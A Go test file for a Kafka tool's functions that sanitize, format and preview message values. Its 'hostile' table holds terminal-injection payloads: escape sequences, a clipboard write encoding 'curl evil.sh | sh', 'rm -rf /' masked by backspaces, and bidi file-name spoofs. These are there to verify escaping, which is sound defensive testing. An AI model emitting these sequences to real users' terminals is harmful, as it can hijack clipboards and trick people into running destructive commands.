package kafka

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"runtime"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile holds payloads a malicious or broken producer could send, with how
// each must look on one line and in a block.
var hostile = []struct {
	name, in, line, block string
}{
	{"CSI colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`, ""},
	{"CSI cursor moves and clear", "\x1b[2J\x1b[H\x1b[10;20Hx\x1b[1A", `\x1b[2J\x1b[H\x1b[10;20Hx\x1b[1A`, ""},
	{"OSC 0 title ending in BEL", "\x1b]0;pwned\x07", `\x1b]0;pwned\x07`, ""},
	{"OSC 0 title ending in ST", "\x1b]0;pwned\x1b\\", `\x1b]0;pwned\x1b\`, ""},
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", `\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`, ""},
	{"OSC 8 hyperlink", "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;http://evil\x1b\click\x1b]8;;\x1b\`, ""},
	{"DCS", "\x1bP+q544e\x1b\\", `\x1bP+q544e\x1b\`, ""},
	{"APC PM SOS", "\x1b_a\x1b\\\x1b^b\x1b\\\x1bXc\x1b\\", `\x1b_a\x1b\\x1b^b\x1b\\x1bXc\x1b\`, ""},
	{"lone ESC at end", "abc\x1b", `abc\x1b`, ""},
	{"BEL NUL", "a\x07b\x00c", `a\x07b\x00c`, ""},
	{"backspaces", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls", `rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls`, ""},
	{"CR overwrite", "safe\rEVIL", `safe\rEVIL`, ""},
	{"CRLF", "a\r\nb", `a\r\nb`, "a\\r\nb"},
	{"DEL", "a\x7fb", `a\x7fb`, ""},
	{"C1 CSI as UTF-8", "\u009b31mred", `\u009b31mred`, ""},
	{"C1 CSI as raw byte", "\x9b31mred", `\x9b31mred`, ""},
	{"C1 OSC and ST as UTF-8", "\u009d0;t\u009c", `\u009d0;t\u009c`, ""},
	{"invalid UTF-8", "ok\xff\xfe\xc3", `ok\xff\xfe\xc3`, ""},
	{"surrogate half", "\xed\xa0\x80", `\xed\xa0\x80`, ""},
	{"overlong slash", "\xc0\xaf", `\xc0\xaf`, ""},
	{"replacement char is text", "a\ufffdb", "a\ufffdb", ""},
	{"bidi override", "invoice\u202eexe.pdf\u202c", `invoice\u202eexe.pdf\u202c`, ""},
	{"bidi isolates", "\u2066x\u2069\u2067y\u2068", `\u2066x\u2069\u2067y\u2068`, ""},
	{"bidi marks", "a\u200eb\u200fc\u061c", `a\u200eb\u200fc\u061c`, ""},
	{"ZWNBSP and separators", "\ufeffa\u2028b\u2029c", `\ufeffa\u2028b\u2029c`, ""},
	{"zero width space", "us\u200ber", `us\u200ber`, ""},
	{"tag characters", "hi\U000e0041\U000e0042", `hi\U000e0041\U000e0042`, ""},
	{"flag of England kept", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", ""},
	{"ZWJ emoji kept", "👨‍👩‍👧 ok", "👨‍👩‍👧 ok", ""},
	{"CJK kept", "日本語", "日本語", ""},
	{"combining mark kept", "e\u0301", "e\u0301", ""},
	{"backslash not escaped", `C:\tmp\x1b "\u00e9"`, `C:\tmp\x1b "\u00e9"`, ""},
	{"newline and tab", "a\tb\nc", `a\tb\nc`, "a       b\nc"},
	{"empty", "", "", ""},
}

func TestSanitize(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			if got := Sanitize([]byte(tc.in)); got != tc.line {
				t.Errorf("Sanitize(%q)\n got %q\nwant %q", tc.in, got, tc.line)
			}
			want := tc.block
			if want == "" {
				want = tc.line
			}
			if got := SanitizeBlock([]byte(tc.in)); got != want {
				t.Errorf("SanitizeBlock(%q)\n got %q\nwant %q", tc.in, got, want)
			}
		})
	}
}

func TestSanitizeBlockTabStops(t *testing.T) {
	for in, want := range map[string]string{
		"\tx":           "        x",
		"ab\tc":         "ab      c",
		"12345678\tx":   "12345678        x",
		"日本\tx":         "日本    x",
		"\x1b\tx":       `\x1b    x`,
		"a\tb\tc\nd\te": "a       b       c\nd       e",
	} {
		if got := SanitizeBlock([]byte(in)); got != want {
			t.Errorf("SanitizeBlock(%q) = %q, want %q", in, got, want)
		}
	}
}

// checkSafe returns why s could be interpreted by a terminal, or "".
func checkSafe(s string, block bool) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == 0x7f || c < 0x20 && !(block && (c == '\n' || c == '\t')) {
			return fmt.Sprintf("byte %#02x at %d", c, i)
		}
	}
	for i, r := range s {
		if r >= 0x80 && r <= 0x9f {
			return fmt.Sprintf("C1 %U at %d", r, i)
		}
	}
	return ""
}

// randomPayloads mixes uniform random bytes with strings built from the
// characters most likely to break an escaper.
func randomPayloads(n int) [][]byte {
	rng := rand.New(rand.NewPCG(1, 2))
	parts := []string{"\x1b", "[", "]", "\\", "\x07", "\x9b", "\u009b", "\xc2", "\r", "\n", "\t", "\x00", "\x7f",
		"\u202e", "\u200d", "👩", "日", "a", "{", "\"", " ", "\xe0\xa0", "\U000e0041", "\U0001f3f4"}
	out := make([][]byte, 0, n)
	for i := range n {
		var b []byte
		if i%2 == 0 {
			b = make([]byte, rng.IntN(64))
			for j := range b {
				b[j] = byte(rng.Uint32())
			}
		} else {
			for range rng.IntN(32) {
				b = append(b, parts[rng.IntN(len(parts))]...)
			}
		}
		out = append(out, b)
	}
	return out
}

func allPayloads() [][]byte {
	var all [][]byte
	for _, tc := range hostile {
		all = append(all, []byte(tc.in))
	}
	return append(all, randomPayloads(3000)...)
}

func TestSanitizeInvariant(t *testing.T) {
	for _, b := range allPayloads() {
		if why := checkSafe(Sanitize(b), false); why != "" {
			t.Errorf("Sanitize(%q): %s", b, why)
		}
		if why := checkSafe(SanitizeBlock(b), true); why != "" {
			t.Errorf("SanitizeBlock(%q): %s", b, why)
		}
		for _, f := range []Format{FormatAuto, FormatJSON, FormatText, FormatHex} {
			if s, _ := Display(b, f); checkSafe(s, true) != "" {
				t.Errorf("Display(%q, %v): %s", b, f, checkSafe(s, true))
			}
		}
		for _, w := range []int{1, 7, 40} {
			p := Preview(b, w)
			if why := checkSafe(p, false); why != "" {
				t.Errorf("Preview(%q, %d): %s", b, w, why)
			}
			if StringWidth(p) > w {
				t.Errorf("Preview(%q, %d) = %q is %d cells", b, w, p, StringWidth(p))
			}
		}
	}
}

func TestParseFormat(t *testing.T) {
	for _, f := range []Format{FormatAuto, FormatJSON, FormatText, FormatHex} {
		got, err := ParseFormat(" " + strings.ToUpper(f.String()) + " ")
		if err != nil || got != f {
			t.Errorf("ParseFormat(%q) = %v, %v", f.String(), got, err)
		}
	}
	_, err := ParseFormat("yaml")
	if err == nil || !strings.Contains(err.Error(), "auto, json, text or hex") {
		t.Errorf("ParseFormat(yaml) error = %v, want one naming the allowed values", err)
	}
	if s := Format(9).String(); s != "Format(9)" {
		t.Errorf("Format(9).String() = %q", s)
	}
}

func TestDetect(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want Format
	}{
		{`{"a":1}`, FormatJSON},
		{" \n[1, 2]\n", FormatJSON},
		{`{}`, FormatJSON},
		{`123`, FormatText},
		{`"just a string"`, FormatText},
		{`null`, FormatText},
		{`{not json`, FormatText},
		{`[INFO] started`, FormatText},
		{"hello\nworld\n", FormatText},
		{"\x1b[31mERROR\x1b[0m disk full", FormatText},
		{"one bell\x07 in a long enough line of text", FormatText},
		{"", FormatText},
		{"\x00\x00\x00\x00\x2a\x02", FormatHex}, // Confluent wire format header
		{"\x0a\x05hello\x10\x2a", FormatHex},    // protobuf
		{"caf\xe9", FormatHex},                  // Latin-1
		{"\x01\x02\x03abc", FormatHex},
	} {
		if got := Detect([]byte(tc.in)); got != tc.want {
			t.Errorf("Detect(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
	if got := Detect(nil); got != FormatText {
		t.Errorf("Detect(nil) = %v", got)
	}
}

func TestDisplayJSON(t *testing.T) {
	in := " {\"z\":12345678901234567890,\"a\":1.0e400,\"m\":{\"k\":[1,\"x\u202e\x7f\"]},\"e\":{},\"l\":[]}\n"
	want := `{
  "z": 12345678901234567890,
  "a": 1.0e400,
  "m": {
    "k": [
      1,
      "x\u202e\x7f"
    ]
  },
  "e": {},
  "l": []
}`
	for _, f := range []Format{FormatAuto, FormatJSON} {
		got, used := Display([]byte(in), f)
		if got != want || used != FormatJSON {
			t.Errorf("Display(%v) = %v\n%s\nwant\n%s", f, used, got, want)
		}
	}
	// A forced JSON view accepts any JSON value, not only objects.
	if got, used := Display([]byte(`-0.1e-7`), FormatJSON); got != "-0.1e-7" || used != FormatJSON {
		t.Errorf("Display(number) = %q, %v", got, used)
	}
}

func TestDisplayFallback(t *testing.T) {
	for _, in := range []string{"{not json", "{\"a\":1}\x1b[2J", `{"a":1} {"b":2}`} {
		got, used := Display([]byte(in), FormatJSON)
		if used != FormatText || got != SanitizeBlock([]byte(in)) {
			t.Errorf("Display(%q, json) = %q, %v; want text fallback", in, got, used)
		}
	}
}

func TestDisplayHex(t *testing.T) {
	in := []byte("Hello, world!\n\x00\xffA\x1b[2J")
	want := "" +
		"00000000  48 65 6c 6c 6f 2c 20 77  6f 72 6c 64 21 0a 00 ff  |Hello, world!...|\n" +
		"00000010  41 1b 5b 32 4a                                    |A.[2J|"
	for _, f := range []Format{FormatHex, FormatAuto} {
		got, used := Display(in, f)
		if got != want || used != FormatHex {
			t.Errorf("Display(%v) = %v\n%s\nwant\n%s", f, used, got, want)
		}
	}
	full := bytes.Repeat([]byte{'a'}, 16)
	if got, _ := Display(full, FormatHex); got != "00000000  61 61 61 61 61 61 61 61  61 61 61 61 61 61 61 61  |aaaaaaaaaaaaaaaa|" {
		t.Errorf("Display(16 bytes) = %q", got)
	}
	if got, _ := Display([]byte{}, FormatHex); got != "" {
		t.Errorf("Display(empty, hex) = %q", got)
	}
}

func TestDisplayNull(t *testing.T) {
	if got, used := Display(nil, FormatAuto); got != NullText || used != FormatText {
		t.Errorf("Display(nil) = %q, %v", got, used)
	}
	if got, used := Display([]byte{}, FormatAuto); got != "" || used != FormatText {
		t.Errorf("Display(empty) = %q, %v", got, used)
	}
}

func TestPreview(t *testing.T) {
	family := "👨‍👩‍👧"
	for _, tc := range []struct {
		name  string
		in    []byte
		width int
		want  string
	}{
		{"nil", nil, 20, NullText},
		{"nil narrow", nil, 3, "<n…"},
		{"empty", []byte{}, 20, ""},
		{"zero width", []byte("abc"), 0, ""},
		{"JSON collapsed", []byte("{\n  \"a\": 1,\n  \"b\": [1, 2],\n  \"s\": \"x  y\"\n}\n"), 80, `{"a":1,"b":[1,2],"s":"x  y"}`},
		{"JSON escaped quote", []byte(`{"a": "q\" x" }`), 80, `{"a":"q\" x"}`},
		{"text with newline", []byte("a\nb"), 80, `a\nb`},
		{"hostile text", []byte("copy \x1b]52;c;Y3VybCBldmls\x07 me"), 80, `copy \x1b]52;c;Y3VybCBldmls\x07 me`},
		{"mostly controls is binary", []byte("\x1b]52;c;AAAA\x07"), 80, "1b 5d 35 32 3b 63 3b 41 41 41 41 07"},
		{"text cut", []byte("hello world"), 5, "hell…"},
		{"text exact fit", []byte("hello"), 5, "hello"},
		{"binary", []byte{0x00, 0x01, 0xff}, 80, "00 01 ff"},
		{"binary exact fit", []byte{0x00, 0x01, 0xff}, 8, "00 01 ff"},
		{"binary cut", []byte{0, 1, 2, 3, 4, 5}, 10, "00 01 02 …"},
		{"binary width 1", []byte{0, 1, 2}, 1, "…"},
		{"CJK cut", []byte("日本語テキスト"), 5, "日本…"},
		{"CJK cut on wide boundary", []byte("日本語テキスト"), 6, "日本…"},
		{"ZWJ emoji kept whole", []byte(strings.Repeat(family, 4)), 5, family + family + "…"},
		{"emoji fits", []byte(family), 2, family},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Preview(tc.in, tc.width); got != tc.want {
				t.Errorf("Preview(%q, %d) = %q, want %q", tc.in, tc.width, got, tc.want)
			}
		})
	}
}

func TestPreviewWidth(t *testing.T) {
	pieces := []string{"a", "日", "👨‍👩‍👧", "🇯🇵", "e\u0301", "\x1b", "\t", "\xff", "\u202e", "ｱ", "❤️", " ", "{", "\""}
	rng := rand.New(rand.NewPCG(3, 4))
	for range 2000 {
		var sb strings.Builder
		for range rng.IntN(40) {
			sb.WriteString(pieces[rng.IntN(len(pieces))])
		}
		in := sb.String()
		for w := range 30 {
			got := Preview([]byte(in), w)
			if StringWidth(got) > w {
				t.Fatalf("Preview(%q, %d) = %q is %d cells", in, w, got, StringWidth(got))
			}
			if strings.Count(got, Ellipsis) > strings.Count(in, Ellipsis)+1 {
				t.Fatalf("Preview(%q, %d) = %q has more than one added ellipsis", in, w, got)
			}
		}
	}
}

func TestTruncateWidth(t *testing.T) {
	for _, tc := range []struct {
		in    string
		width int
		want  string
	}{
		{"abc", 3, "abc"},
		{"abcd", 3, "ab…"},
		{"abc", 1, "…"},
		{"日本語", 6, "日本語"},
		{"日本語", 5, "日本…"},
		{"日本語", 1, "…"},
		{"a日", 2, "a…"},
		{"🇯🇵🇯🇵", 3, "🇯🇵…"},
	} {
		if got := TruncateWidth(tc.in, tc.width); got != tc.want {
			t.Errorf("TruncateWidth(%q, %d) = %q, want %q", tc.in, tc.width, got, tc.want)
		}
	}
}

func largeValues() map[string][]byte {
	const size = 10 << 20
	var js bytes.Buffer
	js.WriteString("[")
	for js.Len() < size {
		js.WriteString(`{"id": 123456, "name": "some value", "tags": ["a", "b"]}, `)
	}
	bin := make([]byte, size)
	for i := range bin {
		bin[i] = byte(i * 7)
	}
	// Put the multi-byte rune across every plausible prefix boundary.
	text := bytes.Repeat([]byte("é日"), size/5)
	return map[string][]byte{"json": js.Bytes(), "binary": bin, "text": text}
}

func TestPreviewLargeValueIsBounded(t *testing.T) {
	for name, v := range largeValues() {
		t.Run(name, func(t *testing.T) {
			for _, w := range []int{1, 10, 80, 400} {
				p := Preview(v, w)
				if !strings.HasSuffix(p, Ellipsis) || StringWidth(p) > w || checkSafe(p, false) != "" {
					t.Errorf("Preview(10 MB %s, %d) = %q", name, w, p)
				}
			}
			if name == "json" {
				if p := Preview(v, 40); !strings.HasPrefix(p, `[{"id":123456,"name":`) {
					t.Errorf("large JSON previewed as %q", p)
				}
			}
			var before, after runtime.MemStats
			const runs = 20
			runtime.ReadMemStats(&before)
			for range runs {
				Preview(v, 200)
			}
			runtime.ReadMemStats(&after)
			if perCall := (after.TotalAlloc - before.TotalAlloc) / runs; perCall > 64<<10 {
				t.Errorf("Preview of a 10 MB %s value allocates %d bytes", name, perCall)
			}
		})
	}
}

func BenchmarkPreview10MB(b *testing.B) {
	for name, v := range largeValues() {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Preview(v, 120)
			}
		})
	}
}

func fuzzSeeds(f *testing.F) {
	for _, tc := range hostile {
		f.Add([]byte(tc.in))
	}
	f.Add([]byte(`{"a": [1, 2, {"b": "c\u0000"}]}`))
	f.Add([]byte("\x0a\x05hello\x10\x2a"))
}

func FuzzSanitize(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, b []byte) {
		if why := checkSafe(Sanitize(b), false); why != "" {
			t.Fatalf("Sanitize(%q): %s", b, why)
		}
		if why := checkSafe(SanitizeBlock(b), true); why != "" {
			t.Fatalf("SanitizeBlock(%q): %s", b, why)
		}
		for _, f := range []Format{FormatAuto, FormatJSON, FormatText, FormatHex} {
			if s, _ := Display(b, f); checkSafe(s, true) != "" {
				t.Fatalf("Display(%q, %v): %s", b, f, checkSafe(s, true))
			}
		}
	})
}

func FuzzPreview(f *testing.F) {
	for _, tc := range hostile {
		f.Add([]byte(tc.in), 20)
	}
	f.Add([]byte(`{"a": [1, 2, {"b": "c"}]}`), 8)
	f.Add([]byte("\x0a\x05hello\x10\x2a"), 7)
	f.Fuzz(func(t *testing.T, b []byte, width int) {
		width %= 300
		got := Preview(b, width)
		if why := checkSafe(got, false); why != "" {
			t.Fatalf("Preview(%q, %d) = %q: %s", b, width, got, why)
		}
		if w := StringWidth(got); w > max(width, 0) {
			t.Fatalf("Preview(%q, %d) = %q is %d cells", b, width, got, w)
		}
	})
}
